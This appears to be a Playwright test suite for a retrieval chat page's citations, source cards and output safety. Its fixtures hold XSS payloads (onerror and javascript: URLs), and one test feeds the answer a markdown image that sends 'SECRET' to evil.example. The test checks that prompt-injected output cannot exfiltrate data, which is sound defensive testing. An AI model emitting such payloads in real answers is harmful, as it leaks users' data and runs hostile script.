"""What an answer rests on, as the page shows it; and what an answer cannot make the page do."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from fake_knowledge import FakeKnowledge
from nexus_voice.core.chat import Passage
from serving import Serving, fakes, serving

pytestmark = pytest.mark.slow

PUMP = Passage(
    "The blue button <b>starts</b> the pump. It is on the left.",
    "d1", "The pump", ("Use", "Start"), page=3, position=40, score=0.9,
)  # fmt: skip
BILL = Passage("Keep the bill in a safe place.", "d2", "Warranty", position=7, score=0.8)
OTHER = Passage("Bread needs flour.", "d3", "Baking", score=0.3)
EVIL = Passage("Click here.", "", "<img src=x onerror=alert(1)>", url="javascript:alert(1)", score=0.2)
ANSWER = "Press the blue button [1]. Then listen 🎵 to it. Keep the bill. [1][2] That is all 【4】."
SHOWN = "Press the blue button. Then listen 🎵 to it. Keep the bill. That is all."


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    pace = {"first_audio": 0.05, "audio_speed": 20.0, "sentence_seconds": 0.4, "first_token": 0.05}
    folder = tmp_path_factory.mktemp("citing")
    with serving(fakes(folder, fake=pace)) as running:
        running.state.engines.knowledge = FakeKnowledge([PUMP, BILL, OTHER, EVIL])
        yield running


def answers(server: Serving, text: str) -> None:
    server.state.engines.llm.current._answer = text  # type: ignore[attr-defined]


def ask(page: Page, text: str) -> None:
    page.fill("#text", text)
    page.press("#text", "Enter")


def write_only(page: Page) -> None:
    page.locator("#speak").uncheck(force=True)


@pytest.mark.parametrize("aloud", [True, False])
def test_numbers_behind_sentences_open_their_sources(page: Page, server: Serving, aloud: bool) -> None:
    answers(server, ANSWER)
    if not aloud:
        write_only(page)
    ask(page, "How do I start it?")
    expect(page.locator(".turn[data-outcome=done]")).to_have_count(1)
    expect(page.locator(".text .mark")).to_have_text(["1", "1", "2", "4"])
    text = page.locator(".text").evaluate(
        "box => [...box.childNodes].map(n => n.nodeType === 3 ? n.data : `{${n.innerText}}`).join('')"
    )
    assert text == SHOWN.replace("button.", "button.{1}").replace("bill.", "bill.{12}") + "{4}"
    links = page.locator(".text a.mark").evaluate_all("marks => marks.map(m => m.getAttribute('href'))")
    first, second = "/rag/documents/d1/original#page=3", "/rag/documents/d2/text?at=7#passage"
    assert links == [first, first, second]
    opened = page.locator(".text a.mark").first
    assert (opened.get_attribute("target"), opened.get_attribute("rel")) == ("_blank", "noopener noreferrer")


def test_a_number_shows_its_passage_to_the_pointer_and_to_the_keyboard(page: Page, server: Serving) -> None:
    answers(server, ANSWER)
    write_only(page)
    ask(page, "How do I start it?")
    expect(page.locator(".turn[data-outcome=done]")).to_have_count(1)
    first, card = page.locator(".mark").first, page.locator("#source-card")
    first.hover()
    expect(card.locator("b")).to_have_text("The pump › Use › Start, page 3")
    expect(card.locator("p")).to_have_text("The blue button <b>starts</b> the pump. It is on the left.")
    card.hover()
    page.wait_for_timeout(400)  # longer than the card stays by itself
    expect(card).to_be_visible()
    page.mouse.move(5, 5)
    expect(card).to_have_count(0)
    page.locator("#log").focus()
    page.keyboard.press("Tab")
    expect(first).to_be_focused()
    expect(first).to_have_attribute("aria-label", "Source 1: The pump › Use › Start, page 3")
    expect(first).to_have_attribute("aria-describedby", "source-card")
    inside = "() => { const c = document.querySelector('#source-card').getBoundingClientRect();"
    assert page.evaluate(inside + "return c.left >= 0 && c.top >= 0 && c.right <= innerWidth; }")
    page.keyboard.press("Escape")
    expect(card).to_have_count(0)


def test_the_sources_used_come_first_and_the_rest_is_folded(page: Page, server: Serving) -> None:
    answers(server, ANSWER)
    write_only(page)
    ask(page, "How do I start it?")
    expect(page.locator(".turn[data-outcome=done]")).to_have_count(1)
    box = page.locator(".sources")
    expect(box.locator("> summary")).to_have_text("From The pump, Warranty, <img src=x onerror=alert(1)>")
    box.locator("> summary").click()
    expect(box.locator("> ol > li .where").first).to_have_text("The pump › Use › Start, page 3")
    assert box.locator("> ol > li").evaluate_all("items => items.map(i => i.value)") == [1, 2, 4]
    expect(box.get_by_text("Bread needs flour.")).to_be_hidden()
    box.get_by_text("Also found (1)").click()
    expect(box.get_by_text("Bread needs flour.")).to_be_visible()
    expect(page.locator("button.where")).to_have_count(1)  # the address that is no link


def test_what_was_not_heard_fades_with_its_numbers(page: Page, server: Serving) -> None:
    answers(server, ANSWER + " And" * 30 + ". [2] " + "Wait a little longer. " * 20)
    ask(page, "How do I start it?")
    expect(page.locator(".text .marks")).to_have_count(4)
    page.wait_for_timeout(1_000)  # sentences are sent a second before they are heard
    page.click("#stop")
    expect(page.locator(".turn")).to_have_attribute("data-outcome", "interrupted")
    expect(page.locator(".unheard")).to_contain_text("longer.")
    expect(page.locator(".text > .marks").first).to_have_text("1")


def test_an_answer_fetches_nothing_and_runs_nothing(page: Page, server: Serving) -> None:
    """Images and links are the ways by which an injected order would carry data out."""
    page.wait_for_load_state("networkidle")  # the page's own lists have come
    asked: list[str] = []
    own = f"{server.url}/engines"  # the page may ask for its list of engines at any time
    page.on("request", lambda request: request.url == own or asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    answers(
        server,
        "![x](https://evil.example/?q=SECRET) <img src=https://evil.example/a onerror=alert(1)> "
        "[x](javascript:alert(1)) <script>alert(2)</script> https://evil.example/ Click [4].",
    )
    write_only(page)
    ask(page, "What is new?")
    expect(page.locator(".turn[data-outcome=done]")).to_have_count(1)
    expect(page.locator(".text")).to_contain_text("![x](https://evil.example/?q=SECRET) <img src=")
    assert page.locator(".answer :is(img, script, iframe)").count() == 0
    assert page.locator(".text a").count() == 0
    page.locator(".text .mark").click()
    page.wait_for_timeout(200)
    assert asked == []


def test_the_page_may_load_nothing_from_elsewhere(page: Page, server: Serving) -> None:
    policy = page.request.get(server.url).headers["content-security-policy"]
    assert policy.startswith("default-src 'self';")
    assert "unsafe" not in policy
    assert "*" not in policy
